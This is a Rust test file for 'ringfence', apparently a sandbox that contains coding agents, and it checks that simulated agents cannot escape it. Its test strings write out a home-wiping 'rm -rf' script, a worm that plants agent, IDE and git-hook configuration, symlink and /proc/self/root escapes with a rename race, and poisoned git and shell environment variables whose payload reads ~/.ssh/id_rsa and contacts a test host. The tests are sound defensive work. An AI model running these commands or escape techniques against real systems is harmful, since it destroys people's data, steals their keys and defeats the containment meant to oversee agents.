//! Incidents about files: agents that deleted, moved, planted and escaped through links.
//!
//! Everything that is attacked lies below one fixture; the host is compared entry by entry.

#![allow(clippy::unwrap_used, reason = "a failed step fails the test, in its helpers too")]

mod support;

use std::fs;

use ringfence_contained_tests::{Fixture, needs};
use support::tcp::Sink;
use support::tree::{assert_unchanged, snapshot};
use support::world::{World, get};

/// The wiping commands of S04, all below the fixture.
fn wipe(fixture: &Fixture) -> String {
    format!(
        "mkdir /nonexistent/x 2>/dev/null; mv * ../missing/x 2>/dev/null; mv ../sibling/* . 2>/dev/null\n\
         rm -rf '{root}' ~ .. ../.. ../sibling ~/.ssh ~/work ./* ./.[a-z]* 2>/dev/null\n\
         find '{root}' -delete 2>/dev/null\n\
         for f in ~/.bashrc ~/notes/token.txt ../sibling/secret.txt; do true > \"$f\"; truncate -s 0 \"$f\"; done 2>/dev/null\n\
         chmod -R 000 '{root}' 2>/dev/null; ln -sfn / ../sibling 2>/dev/null; echo wiped",
        root = fixture.root().display()
    )
}

/// S04: an agent that wipes everything it can name changes nothing of the host in a review
/// workspace, and its changes are thrown away by one command.
#[test]
fn s04_a_wiper_changes_nothing_of_the_host() {
    let fixture = Fixture::new();
    let before = snapshot(&fixture.home());
    let outcome = fixture.job().flags(["--workspace", "review"]).sh(&wipe(&fixture));
    assert!(outcome.stdout.contains("wiped"), "{outcome:?}");
    assert_unchanged(&fixture.home(), &before, "S04 in review");
    let diff = fixture.ringfence(&["diff"]);
    assert!(diff.text().contains("README.md"), "the deletion is shown: {diff:?}");
    let discarded = fixture.ringfence(&["discard"]);
    assert_eq!(discarded.code, 0, "{discarded:?}");
    assert_unchanged(&fixture.home(), &before, "S04 after discard");
    let again = fixture.contained("cat README.md");
    assert_eq!(again.stdout, "a project\n", "the next run starts from the project: {again:?}");
}

/// S04: the same in a direct workspace: what lies outside of it is untouched.
#[test]
fn s04_a_wiper_stays_inside_a_direct_workspace() {
    let fixture = Fixture::new();
    let outside = |fixture: &Fixture| {
        let mut tree = snapshot(&fixture.home());
        tree.retain(|path, _| !path.starts_with("work/project/"));
        tree
    };
    let before = outside(&fixture);
    let hooks = snapshot(&fixture.project().join(".git/hooks"));
    let outcome = fixture.job().flags(["--workspace", "direct"]).sh(&wipe(&fixture));
    assert!(outcome.stdout.contains("wiped"), "{outcome:?}");
    assert_eq!(before, outside(&fixture), "S04: something outside of the workspace changed");
    assert_unchanged(&fixture.project().join(".git/hooks"), &hooks, "S04: protected paths");
    assert!(!fixture.project().join("README.md").exists(), "the project itself was its to change");
}

/// S04: the attack destroys a home that nothing protects.
#[test]
fn s04_control_the_wiper_works_without_a_boundary() {
    let fixture = Fixture::new();
    let script = "rm -rf ~/notes ../sibling ./* ; mv ~/.ssh ./taken; echo wiped";
    let outcome = fixture.unprotected(script);
    assert!(outcome.stdout.contains("wiped"), "{outcome:?}");
    assert!(!fixture.sibling().exists() && !fixture.home().join("notes").exists());
}

/// What S07's worm writes: each is run or trusted by a program outside.
const PLANTS: [&str; 16] = [
    ".claude/settings.json",
    ".vscode/tasks.json",
    ".git/hooks/pre-commit",
    ".git/hooks/post-checkout",
    ".github/workflows/x.yml",
    ".cursor/rules/x.mdc",
    ".codex/config.toml",
    ".gemini/settings.json",
    ".mcp.json",
    ".envrc",
    ".devcontainer/devcontainer.json",
    ".idea/workspace.xml",
    ".zed/tasks.json",
    ".gitlab-ci.yml",
    ".profile",
    "ringfence.toml",
];

fn planting() -> String {
    let one = |path: &str| {
        format!(
            "mkdir -p \"$(dirname {path})\"; echo 'worm {path}' > {path} || echo 'denied {path}'\n"
        )
    };
    let plants: String = PLANTS.iter().map(|path| one(path)).collect();
    format!(
        "{plants}git config core.fsmonitor 'true worm' || echo 'denied .git/config'\n\
         mkdir .CLAUDE .Git 2>/dev/null; echo worm > .CLAUDE/settings.json\n\
         mkdir stage && echo worm > stage/tasks.json && mv -T stage .vscode 2>/dev/null\n\
         ln -s \"$PWD/src\" .cursor/link 2>/dev/null; ln README.md .git/hooks/commit-msg 2>/dev/null\n\
         echo worm >> ~/.bashrc; echo ordinary > ordinary.txt; echo planted"
    )
}

/// S07: what a worm plants in a review workspace is listed, and is not applied with the rest.
#[test]
fn s07_planted_configuration_is_held_back_from_apply() {
    let fixture = Fixture::new();
    let before = snapshot(&fixture.home());
    let outcome = fixture.job().flags(["--workspace", "review"]).sh(&planting());
    assert!(outcome.stdout.contains("planted"), "{outcome:?}");
    assert_unchanged(&fixture.home(), &before, "S07 before apply");
    let diff = fixture.ringfence(&["diff"]);
    for path in PLANTS {
        assert!(diff.text().contains(path), "{path} must be shown: {diff:?}");
    }
    let applied = fixture.ringfence(&["apply"]);
    let ordinary = fixture.project().join("ordinary.txt");
    assert_eq!(fs::read_to_string(&ordinary).unwrap_or_default(), "ordinary\n", "{applied:?}");
    for path in PLANTS {
        let planted = fixture.project().join(path).symlink_metadata().is_ok();
        assert!(!planted, "{path} was applied without its name being given: {applied:?}");
    }
    let config = fs::read_to_string(fixture.project().join(".git/config")).unwrap();
    assert!(!config.contains("fsmonitor"), "{config}");
    assert_eq!(fs::read_to_string(fixture.home().join(".bashrc")).unwrap(), "# untouched\n");
    assert!(
        applied.text().contains(".git/hooks/pre-commit"),
        "what was held back is named: {applied:?}"
    );
}

/// S07: in a direct workspace the same worm is denied path by path, and leaves no ghost behind.
#[test]
fn s07_planted_configuration_is_denied_in_direct() {
    let fixture = Fixture::new();
    let config = fs::read(fixture.project().join(".git/config")).unwrap();
    let outcome = fixture.job().flags(["--workspace", "direct"]).sh(&planting());
    assert!(outcome.stdout.contains("planted"), "{outcome:?}");
    for path in PLANTS {
        assert!(outcome.stdout.contains(&format!("denied {path}\n")), "{path}: {outcome:?}");
        let left = fixture.project().join(path).symlink_metadata().is_ok();
        assert!(!left, "{path} is on the host");
    }
    assert_eq!(fs::read(fixture.project().join(".git/config")).unwrap(), config);
    assert_eq!(fs::read_to_string(fixture.project().join("ordinary.txt")).unwrap(), "ordinary\n");
    assert_eq!(fs::read_to_string(fixture.home().join(".bashrc")).unwrap(), "# untouched\n");
}

/// S08: a protected file that was missing at the start stays missing, whichever way it is made.
#[test]
fn s08_a_missing_protected_file_cannot_be_made() {
    needs!("python3");
    for existing in [false, true] {
        let fixture = Fixture::new();
        let directory = fixture.project().join(".claude");
        if existing {
            fs::create_dir_all(&directory).unwrap();
            fs::write(directory.join("notes.md"), "mine").unwrap();
        }
        let before = snapshot(&directory);
        let outcome = fixture.job().flags(["--workspace", "direct"]).sh(
            "mkdir ready && echo '{\"hooks\":{}}' > ready/settings.json\n\
             rm -rf .claude; rmdir .claude; mv .claude .old; mkdir .claude\n\
             mv -T ready .claude; mv ready/settings.json .claude/settings.json\n\
             ln -sfn \"$PWD/ready\" .claude; ln ready/settings.json .claude/settings.json\n\
             cp -r ready/. .claude/; python3 -c 'import os; os.rename(\"ready\", \".claude\")'\n\
             python3 -c 'import ctypes; l = ctypes.CDLL(None, use_errno=True); print(\"exchange\", l.renameat2(-100, b\"ready\", -100, b\".claude\", 2))'\n\
             echo finished",
        );
        assert!(outcome.stdout.contains("finished"), "{outcome:?}");
        assert!(outcome.stdout.contains("exchange -1"), "{outcome:?}");
        assert!(!directory.join("settings.json").exists(), "existing {existing}: {outcome:?}");
        assert_eq!(directory.exists(), existing, "existing {existing}: {outcome:?}");
        assert_eq!(before, snapshot(&directory), "existing {existing}");
    }
}

/// S09: links, magic links and swapped directories lead nowhere outside of the workspace.
#[test]
fn s09_links_lead_nowhere() {
    let fixture = Fixture::new();
    let victim = fixture.sibling().join("secret.txt");
    let before = snapshot(&fixture.sibling());
    let script = |root: &str, rounds: u32| {
        format!(
            "ln -s / r; cat \"r{victim}\"; echo x >> \"r{victim}\"; echo x > \"r{sibling}/new\"\n\
             ln -s ../sibling s; echo x > s/new; cat s/secret.txt\n\
             ln -s /proc/self/root{sibling} m; echo x > m/new; cat m/secret.txt\n\
             for p in /proc/1/root /proc/self/root /proc/self/cwd/.. /proc/1/cwd/..; do\n\
             \x20 cat \"$p{victim}\" \"$p/sibling/secret.txt\"; echo x > \"$p{sibling}/new\"; done\n\
             cat {root}/proc/*/root{victim}\n\
             python3 - <<'END'\n\
             import os, threading\n\
             os.makedirs('real', exist_ok=True)\n\
             stop = False\n\
             def swap():\n\
             \x20   while not stop:\n\
             \x20       try:\n\
             \x20           os.rename('real', 'kept'); os.symlink('{sibling}', 'real')\n\
             \x20           os.unlink('real'); os.rename('kept', 'real')\n\
             \x20       except OSError: pass\n\
             thread = threading.Thread(target=swap); thread.start()\n\
             for n in range({rounds}):\n\
             \x20   for name in ('raced', 'secret.txt'):\n\
             \x20       try: open('real/' + name, 'a').write('x')\n\
             \x20       except OSError: pass\n\
             \x20   try: print(open('real/secret.txt').read().strip('x'))\n\
             \x20   except OSError: pass\n\
             stop = True; thread.join()\n\
             END\n\
             echo finished",
            victim = victim.display(),
            sibling = fixture.sibling().display(),
        )
    };
    for mode in ["direct", "review"] {
        let job = fixture.job().flags(["--workspace", mode]);
        let outcome = job.sh(&script("", 20_000));
        assert!(outcome.stdout.contains("finished"), "{outcome:?}");
        assert!(!outcome.text().contains("CANARY-sibling"), "{mode}: the secret was read");
        assert_unchanged(&fixture.sibling(), &before, mode);
        // What is left in a direct workspace would lead the next rounds astray.
        let _ = fixture.unprotected("rm -rf r s m real kept");
    }
    let control = fixture.unprotected(&script("", 2000));
    assert!(control.stdout.contains("CANARY-sibling"), "the attack itself is broken: {control:?}");
    assert!(fixture.sibling().join("new").exists(), "the attack itself is broken: {control:?}");
}

/// S16: an environment and a git configuration that are poisoned inside do nothing outside, and
/// nothing inside leads out.
#[test]
fn s16_a_poisoned_environment_stays_inside() {
    let world = World::new(&[("sink.test", &["127.0.0.7"])]);
    let sink = Sink::start("127.0.0.7:0");
    let port = sink.server.port();
    let payload = world.fixture.project().join("payload.sh");
    let mark = world.fixture.root().join("mark");
    fs::write(
        &payload,
        format!(
            "#!/bin/sh\ncat ~/.ssh/id_rsa; touch '{}'\npython3 net.py tcp sink.test {port} {}\n",
            mark.display(),
            get("sink.test", "/")
        ),
    )
    .unwrap();
    let names = [
        "PAGER",
        "GIT_PAGER",
        "GIT_SSH_COMMAND",
        "GIT_EDITOR",
        "GIT_EXTERNAL_DIFF",
        "EDITOR",
        "BASH_ENV",
        "ENV",
    ];
    let exports: String =
        names.iter().map(|name| format!("export {name}='sh {}'\n", payload.display())).collect();
    let poison = format!(
        "{exports}git config alias.st '!sh {p}'; git config core.pager 'sh {p}'; git config core.fsmonitor 'sh {p}'\n\
         git log; echo x >> README.md; git diff; git fetch ssh://sink.test/x; git st; bash -c true; echo finished",
        p = payload.display()
    );
    let outcome = world.job().flags(["--workspace", "review"]).sh(&poison);
    assert!(outcome.stdout.contains("finished"), "{outcome:?}");
    assert!(!outcome.text().contains("CANARY-ssh"), "{outcome:?}");
    assert!(!mark.exists(), "the payload has left a mark on the host");
    // The person's own git, outside, after the run.
    let after = world.fixture.unprotected("git status --short; git log --oneline; git st");
    assert!(!after.text().contains("CANARY-ssh"), "{after:?}");
    assert!(!mark.exists(), "the agent's configuration was run outside");
    sink.assert_untouched("S16");
    let control = world.fixture.unprotected(&format!(
        "export GIT_EXTERNAL_DIFF='sh {}'\necho x >> README.md; git diff",
        payload.display()
    ));
    assert!(
        control.text().contains("CANARY-ssh") && mark.exists(),
        "the attack itself is broken: {control:?}"
    );
}
